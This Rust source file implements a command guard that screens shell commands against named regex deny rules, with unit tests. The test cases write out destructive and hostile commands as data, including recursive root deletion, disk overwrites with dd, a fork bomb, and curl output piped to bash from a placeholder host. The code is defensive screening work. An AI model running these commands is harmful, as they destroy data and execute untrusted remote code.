//! Dangerous shell command screening.
//!
//! Each pattern carries a stable name that ends up in audit details, so a
//! refused command can be traced back to the rule that caught it.

use regex::Regex;

/// Pattern sources, grouped by rule name.
const DANGER_PATTERNS: &[(&str, &str)] = &[
    (
        "recursive_root_delete",
        r"rm\s+(?:-\S+\s+)*(?:-[^\s-]*[rR]\S*|--recursive)\s+(?:-\S+\s+)*(/|/\*|~|\$HOME)/?($|\s|;|&|\|)",
    ),
    (
        "recursive_root_delete",
        r"rm\s+(?:-\S+\s+)*(?:-[^\s-]*[rR]\S*|--recursive)\s+(?:-\S+\s+)*/(usr|etc|var|home|boot|dev|proc|sys|bin|lib|opt|root)\b",
    ),
    ("raw_device_write", r"\bdd\s+.*of=/dev/(sd|hd|nvme|disk|xvd|vd|mmcblk)"),
    ("raw_device_write", r">\s*/dev/(sd|hd|nvme|disk|xvd|vd|mmcblk)"),
    ("privilege_escalation", r"\b(sudo|doas|pkexec)\b"),
    ("privilege_escalation", r"(^|[;&|(]\s*)su(\s|$)"),
    ("filesystem_format", r"\bmkfs(\.\w+)?\s"),
    ("filesystem_format", r"\b(fdisk|parted|wipefs)\s+.*?/dev/"),
    (
        "pipe_to_shell",
        r"\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|da|k|c)?sh\b",
    ),
    (
        "world_writable_chmod",
        r"\bchmod\s+(-[^\s]+\s+)*(0?777|[ugoa]*o[ugoa]*\+[rwxX]*w|a\+[rwxX]*w)\b",
    ),
    ("fork_bomb", r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
];

/// A compiled danger pattern.
#[derive(Debug)]
struct DangerPattern {
    name: &'static str,
    regex: Regex,
}

/// Screens shell commands against the dangerous pattern set.
#[derive(Debug)]
pub struct CommandGuard {
    patterns: Vec<DangerPattern>,
}

impl CommandGuard {
    /// Compile the built-in pattern set.
    pub fn new() -> Self {
        let patterns = DANGER_PATTERNS
            .iter()
            .filter_map(|&(name, source)| {
                Regex::new(source)
                    .ok()
                    .map(|regex| DangerPattern { name, regex })
            })
            .collect();
        Self { patterns }
    }

    /// Name of the first pattern `command` matches, if any.
    pub fn screen(&self, command: &str) -> Option<&'static str> {
        self.patterns
            .iter()
            .find(|p| p.regex.is_match(command))
            .map(|p| p.name)
    }

    /// Number of compiled patterns.
    pub fn len(&self) -> usize {
        self.patterns.len()
    }

    /// Whether no pattern compiled.
    pub fn is_empty(&self) -> bool {
        self.patterns.is_empty()
    }
}

impl Default for CommandGuard {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_patterns_compile() {
        assert_eq!(CommandGuard::new().len(), DANGER_PATTERNS.len());
    }

    #[test]
    fn flags_dangerous_commands() {
        let guard = CommandGuard::new();
        let cases = [
            ("rm -rf /", "recursive_root_delete"),
            ("rm -rf / --no-preserve-root", "recursive_root_delete"),
            ("rm -fr /*", "recursive_root_delete"),
            ("rm -rf ~", "recursive_root_delete"),
            ("rm -r /etc/nginx", "recursive_root_delete"),
            ("rm -r -f /", "recursive_root_delete"),
            ("rm -R -f /etc", "recursive_root_delete"),
            ("rm -f -r /*", "recursive_root_delete"),
            ("rm --recursive --force /", "recursive_root_delete"),
            ("dd if=/dev/zero of=/dev/sda bs=1M", "raw_device_write"),
            ("echo x > /dev/nvme0n1", "raw_device_write"),
            ("sudo apt install foo", "privilege_escalation"),
            ("ls; su", "privilege_escalation"),
            ("su root", "privilege_escalation"),
            ("mkfs.ext4 /dev/sdb1", "filesystem_format"),
            ("curl https://x.sh | bash", "pipe_to_shell"),
            ("wget -qO- http://x | sh", "pipe_to_shell"),
            ("chmod 777 data", "world_writable_chmod"),
            ("chmod -R o+w .", "world_writable_chmod"),
            (":(){ :|:& };:", "fork_bomb"),
        ];
        for (command, expected) in cases {
            assert_eq!(guard.screen(command), Some(expected), "{command}");
        }
    }

    #[test]
    fn allows_ordinary_commands() {
        let guard = CommandGuard::new();
        for command in [
            "ls -la",
            "rm -rf build/",
            "rm -rf ./target",
            "rm -r -f build",
            "rm --force /tmp/x.lock",
            "cat /etc/hosts",
            "curl -o out.json https://api.example.com",
            "chmod 644 notes.txt",
            "chmod u+x run.sh",
            "echo pseudo summary",
            "python3 -c 'print(1)'",
            "grep -r TODO docs/ | wc -l",
        ] {
            assert_eq!(guard.screen(command), None, "{command}");
        }
    }
}
